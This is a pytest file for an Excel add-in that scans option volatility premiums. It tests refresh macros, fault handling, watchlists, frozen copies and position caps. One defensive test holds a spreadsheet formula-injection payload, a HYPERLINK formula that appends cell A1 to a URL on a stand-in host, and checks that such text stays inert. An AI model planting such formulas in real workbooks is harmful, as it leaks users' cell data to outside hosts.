"""What buttons do, on a book in memory."""

from __future__ import annotations

import warnings
import zipfile
from datetime import UTC, date, datetime, timedelta
from typing import TYPE_CHECKING, Any

import openpyxl
import pytest

from tests.sources import chain_files
from vrp_xl import definition, desk, macros, settings, simulator
from vrp_xl.core import calendar
from vrp_xl.core.rules import PRESETS, STANDARD, Rules
from vrp_xl.core.snapshot import Snapshot
from vrp_xl.errors import StoreError
from vrp_xl.excel import layout
from vrp_xl.excel.books import MemoryBook
from vrp_xl.excel.formats import SheetFormats
from vrp_xl.excel.raw import DECIDED_COLUMNS, RAW_COLUMNS, decide_table
from vrp_xl.excel.raw_out import facts_of, raw_row
from vrp_xl.frozen import MOMENT, frozen_sample
from vrp_xl.functions import FUNCTIONS
from vrp_xl.reader import READER
from vrp_xl.sources.base import Fetched
from vrp_xl.sources.sample.names import SYMBOLS
from vrp_xl.workflow.columns import BY_NAME, flat
from vrp_xl.workflow.scan import Scan, run_scan

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

WIDTH = len(layout.RAW_BLOCK)
RAW_ROWS = 20
RULE_ROWS = ("preset", "source", *STANDARD.to_dict())


@pytest.fixture(autouse=True)
def _reader() -> Iterator[None]:
    """The reader of this process starts and ends empty."""
    READER.close()
    yield
    READER.close()


@pytest.fixture
def api(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[..., simulator.Simulator]]:
    """Starts simulators and points the package at them."""
    running = []

    def start(key: str = "demo", **options: Any) -> simulator.Simulator:
        server = simulator.serve(**options)
        running.append(server)
        monkeypatch.setenv("FLASHALPHA_API_KEY", key)
        monkeypatch.setenv("VRP_XL_FLASHALPHA_URL", server.url)
        return server

    yield start
    for server in running:
        server.close()


def desk_of(
    *names: Any,
    source: str = "sample",
    rules: Rules = STANDARD,
    dates: dict[str, Any] | None = None,
) -> MemoryBook:
    """A desk with a watchlist and rules as the Settings sheet has them."""
    book = MemoryBook(
        sheets=layout.SHEETS,
        names={
            layout.RULES_NAME: (layout.SETTINGS, 5, 0, len(RULE_ROWS), 2),
            layout.WATCHLIST_NAME: (layout.SETTINGS, 5, 10, layout.WATCHLIST_ROWS, 2),
            layout.RAW_NAME: (layout.SCAN, 10, 30, RAW_ROWS, WIDTH),
            layout.FACTS_NAME: (layout.SCAN, 0, 0, len(layout.FACTS), 2),
            layout.SYMBOL_NAME: (layout.SYMBOL, 1, 1, 1, 1),
        },
        selected=(layout.SETTINGS, 0, 0, 1, 1),
    )
    values = {**rules.to_dict(), "preset": None, "source": source}
    settings_cells = [[name, values[name]] for name in RULE_ROWS]
    book.named(layout.RULES_NAME).put(settings_cells)
    book.named(layout.WATCHLIST_NAME).put([[n, (dates or {}).get(n)] for n in names])
    book.named(layout.FACTS_NAME).put([[fact, None] for fact in layout.FACTS])
    return book


def raw_of(book: MemoryBook) -> dict[str, dict[str, Any]]:
    """The raw block by symbol."""
    rows = (
        dict(zip(layout.RAW_BLOCK, row, strict=True)) for row in book.named(layout.RAW_NAME).get()
    )
    return {row["symbol"]: row for row in rows if row["symbol"] is not None}


def facts(book: MemoryBook) -> dict[str, Any]:
    """What the refresh says of itself."""
    return dict(book.named(layout.FACTS_NAME).get())


def others(book: MemoryBook) -> dict[tuple[str, int, int], Any]:
    """Every cell that is neither raw figure nor fact."""
    return {
        (sheet, r, c): value
        for (sheet, r, c), value in book.cells.items()
        if not (sheet == layout.SCAN and ((r >= 10 and c >= 30) or (r < 10 and c == 1)))
    }


def test_the_refresh_fills_a_cleared_scan():
    """Every name of the watchlist gets a row of figures, the sheet says where they are from."""
    book = desk_of("SPY", "QQQ", "XOM", "META")
    macros.refresh_scan(book)
    rows = raw_of(book)
    assert sorted(rows) == ["META", "QQQ", "SPY", "XOM"]
    assert isinstance(rows["SPY"]["spot"], float)
    assert rows["SPY"]["gamma"] in ("positive", "negative", "unknown")
    assert rows["XOM"]["z_score"] is None
    assert "60 days" in rows["XOM"]["missing"]
    told = facts(book)
    assert told["source"] == "sample"
    assert told["sample"] is True
    assert isinstance(told["as_of"], datetime)
    assert told["refreshed"].tzinfo is None
    assert book.messages == []
    assert book.recalculated == 1
    assert book.statuses[-1] is None
    assert any("4 of 4" in (line or "") for line in book.statuses)


def test_every_refresh_is_kept_in_the_journal():
    """The refresh button keeps a scan; the button of one name does not."""
    book = desk_of("SPY", "QQQ", "XOM")
    macros.refresh_scan(book)
    macros.refresh_scan(book)
    with desk.open_store() as store:
        kept = [head for head in store.scans.heads() if head.symbols == ("QQQ", "SPY", "XOM")]
        assert [(head.source, head.sample) for head in kept] == [("sample", True)]
        before = store.scans.heads()
    book.selected = (layout.SCAN, 10, 30, 1, 1)
    macros.refresh_symbol(book)
    with desk.open_store() as store:
        assert store.scans.heads() == before
    assert book.messages == []


def test_a_journal_that_cannot_be_written_is_told(monkeypatch):
    """The figures are on the sheet all the same."""

    def full(*_args, **_more):
        raise StoreError("The store cannot grow: the disk is full.")

    monkeypatch.setattr("vrp_xl.workflow.journal.keep_morning", full)
    book = desk_of("SPY")
    macros.refresh_scan(book)
    assert sorted(raw_of(book)) == ["SPY"]
    assert book.messages == ["Not kept in the journal: The store cannot grow: the disk is full."]


def test_only_figures_and_facts_are_written():
    """Inputs, rules and the watchlist stay, and no format is touched."""
    book = desk_of("SPY", "QQQ", dates={"QQQ": datetime(2031, 1, 15)})  # noqa: DTZ001
    book.cells[layout.SCAN, 9, 30] = "Symbol"
    book.cells[layout.POSITIONS, 4, 0] = "SPY"
    before = others(book)
    macros.refresh_scan(book)
    assert others(book) == before
    assert book.formats == {}


def test_rows_below_the_new_ones_are_emptied():
    """A name that left the watchlist leaves no figures behind."""
    book = desk_of("SPY", "QQQ", "IWM")
    macros.refresh_scan(book)
    assert len(raw_of(book)) == 3
    book.named(layout.WATCHLIST_NAME).put([["SPY", None], [None, None], [None, None]])
    macros.refresh_scan(book)
    assert list(raw_of(book)) == ["SPY"]
    assert all(cell is None for row in book.named(layout.RAW_NAME).get()[1:] for cell in row)


def test_cells_hold_plain_values_only():
    """Numbers are finite floats, times have no zone, nothing is an error value or a list."""
    book = desk_of(*SYMBOLS)
    macros.refresh_scan(book)
    kinds = {type(cell) for row in book.named(layout.RAW_NAME).get() for cell in row}
    assert kinds <= {float, str, date, datetime, bool, type(None)}
    cells = [c for row in book.named(layout.RAW_NAME).get() for c in row if isinstance(c, str)]
    assert not [cell for cell in cells if cell.startswith("#")]


@pytest.mark.parametrize("preset", PRESETS)
def test_the_figures_decide_as_the_scan_does(preset):
    """From the raw block VRP_DECIDE comes to the scan's own decision for every sample name."""
    rules = PRESETS[preset]
    with frozen_sample():
        where = READER.desk()
        names = READER.names(where)
        scan = run_scan(READER.store(), "sample", names, rules, now=MOMENT)
    assert len(scan.rows) == 12
    today = MOMENT.astimezone(calendar.NEW_YORK).date()
    raw = [raw_row(row) for row in scan.rows]
    decided = decide_table([r[: len(RAW_COLUMNS)] for r in raw], rules, today=today)
    for row, got in zip(scan.rows, decided, strict=True):
        wanted = {name: flat(row, BY_NAME[name]) for name in DECIDED_COLUMNS}
        assert wanted["cell"] == row.decision.sign
        assert dict(zip(DECIDED_COLUMNS, got, strict=True)) == wanted


def test_the_spreadsheet_function_reads_what_the_refresh_writes():
    """VRP_DECIDE over the block and the rules of the book decides as VRP_CELL does."""
    book = desk_of("SPY", "IWM", "META")
    macros.refresh_scan(book)
    rules = book.named(layout.RULES_NAME).get()
    block = book.named(layout.RAW_NAME).part(0, 0, RAW_ROWS, len(RAW_COLUMNS)).get()
    decided = FUNCTIONS["VRP_DECIDE"].call(block, rules)
    assert len(decided) == RAW_ROWS
    for symbol, row in zip(raw_of(book), decided, strict=False):
        assert row[0] == FUNCTIONS["VRP_CELL"].call(symbol, None, rules)
    assert all(cell is None for cell in decided[3])


@pytest.mark.parametrize(
    ("options", "words"),
    [
        ({"fault": "key"}, "key"),
        ({"fault": "quota"}, "quota"),
        ({"fault": "plan"}, "plan"),
        ({"fault": "error500"}, ""),
        ({"fault": "garbled"}, ""),
    ],
    ids=lambda value: value if isinstance(value, str) else value["fault"],
)
def test_where_nothing_comes_the_sheet_stays_as_it_was(api, options, words):
    """A refused key, a spent quota or a broken server says so and changes no cell."""
    server = api()
    book = desk_of("SPY", "QQQ", source="flashalpha")
    macros.refresh_scan(book)
    assert book.messages == []
    before, counted = dict(book.cells), book.recalculated
    server.fault = options["fault"]
    macros.refresh_scan(book)
    assert book.cells == before
    assert book.recalculated == counted
    (message,) = book.messages
    assert words in message.lower()
    assert "The sheet is as it was." in message
    assert "Traceback" not in message
    assert "demo" not in message


def test_a_dead_server_changes_no_cell(api):
    """Where nobody listens the message says so, and what was known stays."""
    server = api()
    book = desk_of("SPY", source="flashalpha")
    macros.refresh_scan(book)
    before = dict(book.cells)
    server.close()
    macros.refresh_scan(book)
    assert book.cells == before
    assert "The sheet is as it was." in book.messages[0]
    assert book.calculation == "automatic"
    assert book.screen_updating is True
    assert book.statuses[-1] is None


def test_without_a_key_the_message_says_how_to_set_one():
    """The live source without a key changes nothing."""
    book = desk_of("SPY", source="flashalpha")
    before = dict(book.cells)
    macros.refresh_scan(book)
    assert book.cells == before
    assert "vrp-xl key set" in book.messages[0]


def test_half_an_answer_is_written_and_told(api):
    """Names that fail are named; the others are refreshed."""
    api(fault="half")
    book = desk_of("SPY", "QQQ", "IWM", "AAPL", source="flashalpha")
    macros.refresh_scan(book)
    shown = raw_of(book)
    assert 0 < len(shown) < 4
    (message,) = book.messages
    assert "Without figures: " in message
    assert facts(book)["failed"]
    assert all(name in message for name in {"SPY", "QQQ", "IWM", "AAPL"} - set(shown))


def test_the_source_row_decides_the_source(api):
    """The sheet's source wins over the chosen one, and the chosen one stays chosen."""
    server = api()
    settings.choose_source("flashalpha")
    book = desk_of("SPY", source="sample")
    macros.refresh_scan(book)
    assert facts(book)["source"] == "sample"
    assert server.requests == []
    assert settings.chosen_source() == "flashalpha"


def test_an_empty_source_is_the_chosen_one(api):
    """A blank source row takes what `vrp-xl source` chose."""
    server = api()
    settings.choose_source("flashalpha")
    book = desk_of("SPY", source="")
    macros.refresh_scan(book)
    assert facts(book)["source"] == "flashalpha"
    assert server.count(symbol="SPY") > 0


@pytest.mark.parametrize(
    ("rule", "value", "words"),
    [("source", "nowhere", "nowhere"), ("z_min", "much", "z_min"), ("z_min", "#REF!", "#REF!")],
)
def test_a_bad_setting_is_told_and_nothing_happens(rule, value, words):
    """A rule that cannot be is named; no cell changes."""
    book = desk_of("SPY")
    book.named(layout.RULES_NAME).part(RULE_ROWS.index(rule), 1, 1, 1).put([[value]])
    before = dict(book.cells)
    macros.refresh_scan(book)
    assert book.cells == before
    assert words in book.messages[0]


def test_bad_rows_of_the_watchlist_are_told():
    """What is no symbol is named with its row; the good names are refreshed."""
    march = datetime(2026, 3, 1)  # noqa: DTZ001
    book = desk_of("spy", None, "no symbol!", march, "SPY", 12.0, " qqq ")
    macros.refresh_scan(book)
    assert sorted(raw_of(book)) == ["QQQ", "SPY"]
    (message,) = book.messages
    assert "watchlist row 3" in message
    assert "watchlist row 4" in message
    assert "watchlist row 6" in message
    assert "watchlist row 3" in facts(book)["notices"]


def test_an_empty_watchlist_says_where_to_type():
    """Nothing to refresh is said, not done."""
    book = desk_of()
    macros.refresh_scan(book)
    assert "Settings" in book.messages[0]
    assert raw_of(book) == {}


def test_earnings_dates_of_the_book_count_everywhere():
    """A date on Settings reaches the scan and the formulas alike."""
    soon = datetime.now(UTC).astimezone(calendar.NEW_YORK).date() + timedelta(days=3)
    book = desk_of("SPY", dates={"SPY": datetime(soon.year, soon.month, soon.day)})  # noqa: DTZ001
    macros.refresh_scan(book)
    assert raw_of(book)["SPY"]["next_earnings"] == soon
    rules = book.named(layout.RULES_NAME).get()
    assert FUNCTIONS["VRP_SIZE"].call("SPY", rules) == 0.0


def test_a_bad_earnings_date_is_told():
    """The name is refreshed without it."""
    book = desk_of("SPY", dates={"SPY": "soon"})
    macros.refresh_scan(book)
    assert "SPY" in raw_of(book)
    assert "earnings" in book.messages[0]


def test_text_from_outside_stays_text():
    """A vendor's words that look like a formula are a value of the cell, whole and unread."""
    evil = '=HYPERLINK("http://127.0.0.1/?"&A1,"click")'
    now = datetime.now(UTC)
    with desk.open_store() as store:
        bad = Snapshot(
            symbol="EVIL", source="sample", as_of=now, fetched_at=now, spot=10.0,
            vrp_regime=evil, warnings=(evil, "@SUM(1;2)\x07"), missing={"z_score": "-1+1"},
        )  # fmt: skip
        store.save(Fetched(bad))
        scan = run_scan(store, "sample", ["EVIL"], STANDARD)
    row = dict(zip(layout.RAW_BLOCK, raw_row(scan.rows[0]), strict=True))
    assert row["vrp_regime"] == evil
    assert row["warnings"] == f"{evil}; @SUM(1,2) "
    assert row["missing"] == "-1+1"


def test_facts_of_an_empty_scan():
    """Nothing scanned: nothing is known, and nothing fails."""
    scan = Scan(
        source="sample", sample=True, preset="standard", rules=STANDARD,
        scanned_at=MOMENT, rows=(), failed=(),
    )  # fmt: skip
    told = facts_of(scan, refreshed=MOMENT)
    assert tuple(told) == layout.FACTS
    assert told["as_of"] is None
    assert told["market"] is None
    assert told["refreshed"] == datetime(2026, 11, 20, 16, 0)  # noqa: DTZ001


class _FailingBook(MemoryBook):
    """A book whose recalculation goes wrong."""

    __slots__ = ("error",)
    error: BaseException

    def recalculate(self) -> None:
        """Fails as told, in the state in which a macro left the program."""
        assert self.calculation == "manual"
        assert self.screen_updating is False
        raise self.error


def _failing(error: BaseException) -> MemoryBook:
    made = desk_of("SPY")
    kept = {name: getattr(made, name) for name in MemoryBook.__slots__}
    book = _FailingBook(**kept)
    book.error = error
    book.calculation = "semiautomatic"
    return book


def test_the_program_is_as_before_after_a_mistake():
    """An unexpected error is logged without the key, told in a sentence, and all is restored."""
    book = _failing(RuntimeError("call was rejected by callee"))
    macros.refresh_scan(book)
    assert book.calculation == "semiautomatic"
    assert book.screen_updating is True
    assert book.statuses[-1] is None
    (message,) = book.messages
    log = settings.home() / "macros.log"
    assert str(log) in message
    assert "Traceback" not in message
    assert "call was rejected" in log.read_text(encoding="utf-8")


def test_the_program_is_as_before_after_an_interrupt():
    """Control-C ends the macro and leaves no program with its screen frozen."""
    book = _failing(KeyboardInterrupt())
    with pytest.raises(KeyboardInterrupt):
        macros.refresh_scan(book)
    assert book.calculation == "semiautomatic"
    assert book.screen_updating is True
    assert book.statuses[-1] is None


def test_the_log_never_holds_the_key(monkeypatch):
    """A key inside an error's words is taken out before they are written."""
    monkeypatch.setenv("FLASHALPHA_API_KEY", "fa_secret_123")
    book = _failing(RuntimeError("GET /?apiKey=fa_secret_123"))
    macros.refresh_scan(book)
    macros.refresh_scan(book)
    text = (settings.home() / "macros.log").read_text(encoding="utf-8")
    assert "fa_secret_123" not in text + "".join(book.messages)
    assert text.count("RefreshScan") == 2


def test_a_log_that_cannot_be_written_is_no_second_error(monkeypatch):
    """Where the home folder is a file, the message still comes."""
    book = _failing(RuntimeError("x"))
    monkeypatch.setattr(settings, "make_home", _not_writable)
    book_error = book.error
    assert isinstance(book_error, RuntimeError)
    assert macros._unexpected("RefreshScan", book_error).endswith("That is a mistake in vrp_xl.")


def _not_writable() -> Path:
    raise OSError


def test_the_manual_mode_of_the_user_stays():
    """Who calculates by hand still does so afterwards."""
    book = desk_of("SPY")
    book.calculation, book.screen_updating = "manual", False
    macros.refresh_scan(book)
    assert book.calculation == "manual"
    assert book.screen_updating is False


def _want(source: str, *names: str) -> None:
    with desk.open_store() as store:
        for name in names:
            store.add_wanted(source, name)


def test_wanted_names_are_asked_for_with_their_cost(api):
    """Yes fetches them for formulas; they are no part of the scan."""
    api()
    _want("flashalpha", "NVDA", "SPY")
    book = desk_of("SPY", source="flashalpha")
    book.answers = [True]
    macros.refresh_scan(book)
    (question,) = book.questions
    assert question.startswith("1 more is wanted by formulas: NVDA.")
    assert "call" in question
    assert list(raw_of(book)) == ["SPY"]
    with desk.open_store() as store:
        assert store.latest("flashalpha", "NVDA") is not None
        assert store.wanted("flashalpha") == []


def test_no_leaves_wanted_names_wanted(api):
    """No asks for nothing."""
    server = api()
    _want("flashalpha", "NVDA", "AMD")
    book = desk_of("SPY", source="flashalpha")
    macros.refresh_scan(book)
    assert book.questions[0].startswith("2 more are wanted by formulas:")
    assert server.count(symbol="NVDA") == 0
    with desk.open_store() as store:
        assert sorted(store.wanted("flashalpha")) == ["AMD", "NVDA"]


def test_wanted_names_are_not_fetched_after_a_refusal(api):
    """A spent quota ends the refresh; nothing more is asked."""
    server = api()
    _want("flashalpha", "NVDA")
    server.fault = "key"
    book = desk_of("SPY", source="flashalpha")
    book.answers = [True]
    macros.refresh_scan(book)
    assert server.count(symbol="NVDA") == 0
    assert "The sheet is as it was." in book.messages[0]


def test_a_list_of_names_is_short():
    """A message names a few and counts the rest."""
    names = [f"N{i}" for i in range(12)]
    assert macros._list(names).endswith("N7 and 4 more")


def test_more_names_than_rows_are_told():
    """What does not fit is said."""
    book = desk_of("SPY", "QQQ", "IWM")
    sheet, row, column, _, width = book.names[layout.RAW_NAME]
    book.names[layout.RAW_NAME] = (sheet, row, column, 2, width)
    macros.refresh_scan(book)
    assert len(raw_of(book)) == 2
    assert "room for 2 names" in book.messages[0]


def test_any_other_book_refreshes_the_users_watchlist():
    """The add-in's button elsewhere serves formulas and writes no cell."""
    settings.choose_source("sample")
    with desk.open_store() as store:
        store.add_watch("GLD")
    book = MemoryBook()
    macros.refresh_scan(book)
    assert book.cells == {}
    assert book.recalculated == 1
    assert "names of the watchlist are fresh" in book.messages[0]


def test_one_symbol_by_its_row_of_the_scan():
    """Any cell of a scan row means the symbol of that row: its own row changes, no other."""
    book = desk_of("SPY", "QQQ")
    macros.refresh_scan(book)
    block = book.named(layout.RAW_NAME)
    at = list(raw_of(book)).index("QQQ")
    other = block.get()[1 - at]
    block.part(at, 1, 1, WIDTH - 1).clear()
    book.selected = (layout.SCAN, 10 + at, 3, 1, 1)
    macros.refresh_symbol(book)
    assert raw_of(book)["QQQ"]["spot"] > 0
    assert block.get()[1 - at] == other
    assert book.messages == []
    assert book.recalculated == 2


def test_one_symbol_that_the_scan_does_not_show():
    """It is refreshed for formulas, and a message says what it says."""
    book = desk_of("SPY")
    book.cells[layout.POSITIONS, 3, 0] = "GLD"
    book.selected = (layout.POSITIONS, 3, 0, 1, 1)
    macros.refresh_symbol(book)
    assert book.messages[0].startswith("GLD is fresh: ")
    assert raw_of(book) == {}


def test_one_symbol_of_the_symbol_sheet():
    """An empty cell there means the name that is typed above."""
    book = desk_of("SPY")
    book.cells[layout.SYMBOL, 1, 1] = "GLD"
    book.selected = (layout.SYMBOL, 20, 5, 1, 1)
    macros.refresh_symbol(book)
    assert book.messages[0].startswith("GLD is fresh: ")


@pytest.mark.parametrize("content", [None, "not a symbol", 12.5])
def test_one_symbol_where_there_is_none(content):
    """A cell without a symbol is told, and nothing is asked."""
    book = desk_of("SPY")
    if content is not None:
        book.cells[layout.HELP, 3, 3] = content
    book.selected = (layout.HELP, 3, 3, 1, 1)
    before = dict(book.cells)
    macros.refresh_symbol(book)
    assert len(book.messages) == 1
    assert book.cells == before


def test_one_symbol_that_nobody_knows(api):
    """An unknown name changes nothing and says so."""
    api()
    book = desk_of("SPY", source="flashalpha")
    book.cells[layout.HELP, 3, 3] = "ZZZZ"
    book.selected = (layout.HELP, 3, 3, 1, 1)
    macros.refresh_symbol(book)
    assert "ZZZZ" in book.messages[0]


def test_nothing_selected_is_told():
    """A chart is no cell."""
    book = desk_of("SPY")
    book.selected = None
    macros.refresh_symbol(book)
    macros.add_to_watchlist(book)
    assert book.messages == [
        "No cell is selected. Select a cell with a symbol.",
        "No cell is selected. Select cells with symbols.",
    ]


def test_selected_symbols_join_the_watchlist():
    """New ones go to the first empty rows and to the user's list; the rest is told."""
    book = desk_of("SPY", None, "QQQ")
    for row, cell in enumerate(["nvda", "SPY", "what is this", None, "NVDA", True]):
        book.cells[layout.HELP, row, 0] = cell
    book.selected = (layout.HELP, 0, 0, 6, 1)
    macros.add_to_watchlist(book)
    column = [row[0] for row in book.named(layout.WATCHLIST_NAME).get()[:5]]
    assert column == ["SPY", "NVDA", "QQQ", "TRUE", None]
    with desk.open_store() as store:
        assert {"NVDA", "TRUE"} <= {watched.symbol for watched in store.watchlist()}
    assert book.messages == [
        "Added to the watchlist: NVDA, TRUE.\nThere before: SPY.\nNo symbols: what is this."
    ]


def test_a_full_watchlist_takes_no_more():
    """What has no room is named."""
    book = desk_of("SPY", "QQQ")
    sheet, row, column, _, width = book.names[layout.WATCHLIST_NAME]
    book.names[layout.WATCHLIST_NAME] = (sheet, row, column, 3, width)
    book.cells[layout.HELP, 0, 0], book.cells[layout.HELP, 0, 1] = "GLD", "SLV"
    book.selected = (layout.HELP, 0, 0, 1, 2)
    macros.add_to_watchlist(book)
    assert "No room for: SLV." in book.messages[0]
    assert book.named(layout.WATCHLIST_NAME).get()[2][0] == "GLD"


def test_selected_symbols_of_any_other_book():
    """Without a watchlist in the book the user's own grows; empty cells are told."""
    book = MemoryBook(cells={("Sheet1", 0, 0): "GLD"}, selected=("Sheet1", 0, 0, 1, 1))
    macros.add_to_watchlist(book)
    macros.add_to_watchlist(book)
    book.selected = ("Sheet1", 5, 5, 2, 2)
    macros.add_to_watchlist(book)
    assert book.messages == [
        "Added to the watchlist: GLD.",
        "There before: GLD.",
        "The selected cells are empty. Select cells with symbols.",
    ]


def test_the_traded_window_of_the_settings_is_that_of_the_levels(tmp_path):
    """Rules on the Settings sheet reach what is computed from a chain."""
    days = (2, 16, 30, 44, 65, 93)
    (tmp_path / "abc.json").write_text(chain_files.Market("ABC", days=days).json())
    settings.choose_data_folder(tmp_path)
    near = STANDARD.with_values({"dte_min": 10, "dte_max": 40, "target_dte": 30})
    for rules, window in ((STANDARD, (30, 60)), (near, (10, 40))):
        macros.refresh_scan(desk_of("ABC", source="folder", rules=rules))
        with desk.open_store() as store:
            found = store.latest("folder", "ABC").window_levels
        assert (found["dte_min"], found["dte_max"]) == window


def test_a_frozen_copy_holds_values_only(tmp_path):
    """It lies beside the book, without formulas over figures, without macros, named by its day."""
    book = desk_of("SPY", "QQQ", rules=PRESETS["wide"])
    book.folder = tmp_path
    macros.freeze_copy(book)
    macros.freeze_copy(book)
    first, second = sorted(tmp_path.iterdir(), key=lambda path: len(path.name))
    assert str(first) in book.messages[0]
    assert second.name == first.name.replace(".xlsx", "-2.xlsx")
    with zipfile.ZipFile(first) as file:
        names = file.namelist()
        sheets = [file.read(name).decode() for name in names if "worksheets/sheet" in name]
        text = file.read("xl/sharedStrings.xml").decode()
    assert not [name for name in names if "vba" in name.lower()]
    assert len(sheets) == 4
    assert not [sheet for sheet in sheets if "<f" in sheet.replace("<formula", "")]
    assert all("As of " in sheet.partition("<oddFooter>")[2] for sheet in sheets)
    assert "SPY" in text
    assert "wide" in text
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # openpyxl does not know data bars of 2010
        book_read = openpyxl.load_workbook(first)
    assert book_read.sheetnames == ["Scan", "Plan", "Matrix", "Settings"]


def test_a_frozen_copy_of_nothing(api):
    """Without stored figures there is nothing to save, and nothing is asked."""
    server = api()
    book = desk_of("SPY", source="flashalpha")
    macros.freeze_copy(book)
    assert "Refresh" in book.messages[0]
    assert server.requests == []


def test_a_frozen_copy_goes_to_the_documents_where_the_book_has_no_folder(tmp_path, monkeypatch):
    """A book that was never saved, or lies in a cloud, is frozen into the user's documents."""
    monkeypatch.setattr("platformdirs.user_documents_dir", lambda: str(tmp_path))
    book = desk_of("SPY")
    macros.freeze_copy(book)
    assert [path.suffix for path in tmp_path.iterdir()] == [".xlsx"]


def test_a_frozen_copy_where_no_folder_can_be_written(tmp_path, monkeypatch):
    """The message says what could not be written."""
    monkeypatch.setattr("platformdirs.user_documents_dir", lambda: str(tmp_path / "none"))
    book = desk_of("SPY")
    macros.freeze_copy(book)
    assert book.messages == ["No folder was found to save to."]


def test_the_last_error_in_words(monkeypatch):
    """What the last formula of this process said, and what the host knows."""
    monkeypatch.setattr(definition.LAST, "words", "")
    book = MemoryBook()
    macros.show_last_error(book)
    assert "VRP_WHY" in book.messages[0]
    FUNCTIONS["VRP_RATIO"].call("x", "y")
    macros.show_last_error(book, "Automation error")
    assert book.messages[1].startswith("VRP_RATIO: ")
    assert book.messages[1].endswith("\nAutomation error")


def test_sheets_are_shown():
    """The ribbon's Settings and Help go there, and in another book they say what to open."""
    book = desk_of("SPY")
    macros.open_settings(book)
    assert book.active == layout.SETTINGS
    macros.open_help(book)
    assert book.active == layout.HELP
    other = MemoryBook()
    macros.open_help(other)
    assert "vrp-xl open" in other.messages[0]


def test_formats_come_back_from_the_delivered_desk(monkeypatch, tmp_path):
    """Every sheet of the desk gets the formats of the built file; values stay."""
    delivered = tuple(
        SheetFormats(name, (), (("A1:A5", "0.00"),)) for name in (*layout.SHEETS, "x")
    )
    monkeypatch.setattr("vrp_xl.excel.files.built", lambda _: tmp_path)
    monkeypatch.setattr("vrp_xl.excel.formats.formats_of", lambda _: delivered)
    book = desk_of("SPY")
    before = dict(book.cells)
    macros.reset_formats(book)
    assert sorted(book.formats) == sorted(layout.SHEETS)
    assert book.cells == before
    assert book.active == layout.SETTINGS
    other = MemoryBook()
    macros.reset_formats(other)
    assert other.formats == {}
    assert "not the desk" in other.messages[0]


def test_every_macro_of_the_workbook_has_its_body():
    """The names on the ribbon and the functions here belong together."""
    for name in layout.MACROS:
        body = "".join(f"_{ch.lower()}" if ch.isupper() else ch for ch in name).lstrip("_")
        assert callable(getattr(macros, body))


def test_the_columns_of_the_block_are_the_layouts():
    """Who reads the block by position finds what the refresh writes."""
    assert layout.RAW_BLOCK[: len(RAW_COLUMNS)] == RAW_COLUMNS
    assert len(set(layout.RAW_BLOCK)) == WIDTH


HEADINGS = ("Symbol", "Action", "Structure", "Strikes", "Con- tracts", "Entry date", "Entry cell",
            "Expiry", "Credit", "Mark", "Note")  # fmt: skip


def with_positions(book: MemoryBook, *rows: tuple[Any, ...], equity: Any = 100_000.0) -> MemoryBook:
    """The book with a Positions sheet that holds these rows."""
    width = len(HEADINGS)
    book.names[layout.POSITIONS_NAME] = (layout.POSITIONS, 6, 0, 10, width)
    book.names[layout.EQUITY_NAME] = (layout.POSITIONS, 2, 1, 1, 1)
    filled = [(*row, *[None] * (width - len(row))) for row in (HEADINGS, *rows)]
    book.named(layout.POSITIONS_NAME).put(filled)
    book.named(layout.EQUITY_NAME).put([[equity]])
    return book


ON = ("GLD", "OK", "short_put_spread", "380/400", 3.0, 46_338.0, "A",
      datetime(2099, 1, 15), 4.0, 3.0)  # noqa: DTZ001  # fmt: skip


def test_the_refresh_counts_the_sheet_of_positions_in_the_caps() -> None:
    """By cell and in total, with the contracts that are left; what is held is refreshed too."""
    book = with_positions(desk_of("SPY", "QQQ", "IWM"), ON)
    before = others(book)
    macros.refresh_scan(book)
    assert book.messages == []
    told = facts(book)["notices"]
    assert "1 open position puts 4,800 USD at risk, counted in the caps: cell " in told
    assert "in total 4,800 of 25,000" in told
    assert "contracts: IWM 1 (" in told
    assert others(book) == before
    assert sorted(raw_of(book)) == ["IWM", "QQQ", "SPY"]
    with desk.open_store() as store:
        assert store.latest("sample", "GLD") is not None


@pytest.mark.parametrize(
    ("rows", "equity", "words"),
    [
        (
            [ON, ("SPY", None, "iron_condor", "380/x")],
            100_000.0,
            "Positions: 1 line counts in no cap; line 3: ",
        ),
        ([("SPY", None, "iron_condor", "380/x")], 100_000.0, "open positions are not counted"),
        ([ON], -5.0, "open positions are not counted in the caps: "),
        ([ON], "much", "open positions are not counted in the caps: "),
        ([ON], None, "caps need the value of the account (rule equity)"),
        ([], 100_000.0, "no position is open: the caps count the candidates alone"),
    ],
)
def test_a_sheet_of_positions_that_cannot_be_used_stops_no_refresh(
    rows: list[tuple[Any, ...]], equity: Any, words: str
) -> None:
    """The figures come; what the caps do not count is told."""
    book = with_positions(desk_of("SPY"), *rows, equity=equity)
    macros.refresh_scan(book)
    assert list(raw_of(book)) == ["SPY"]
    assert words in facts(book)["notices"]


def test_examples_among_the_positions_count_in_the_sample_market_alone(
    api: Callable[..., simulator.Simulator],
) -> None:
    """Nobody holds them where the prices are real."""
    example = (*ON, "SAMPLE")
    sample = with_positions(desk_of("SPY"), example)
    macros.refresh_scan(sample)
    assert "1 open position puts 4,800 USD" in facts(sample)["notices"]
    api()
    real = with_positions(desk_of("SPY", source="flashalpha"), example)
    macros.refresh_scan(real)
    assert "no position is open" in facts(real)["notices"]
    with desk.open_store() as store:
        assert store.latest("flashalpha", "GLD") is None


def test_the_copy_has_the_plan_with_contracts_behind_the_positions(tmp_path: Path) -> None:
    """What is on paper counts what is on, as the line above the scan does."""
    book = with_positions(desk_of("SPY", "QQQ", "IWM"), ON)
    book.folder = tmp_path
    macros.refresh_scan(book)
    macros.freeze_copy(book)
    (path,) = tmp_path.glob("*.xlsx")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        sheet = openpyxl.load_workbook(path)["Plan"]
    told = "\n".join(str(c.value) for line in sheet.iter_rows() for c in line if c.value)
    assert "1 open position puts 4,800 USD at risk, counted in the caps" in told
    assert "1 contract, " in told
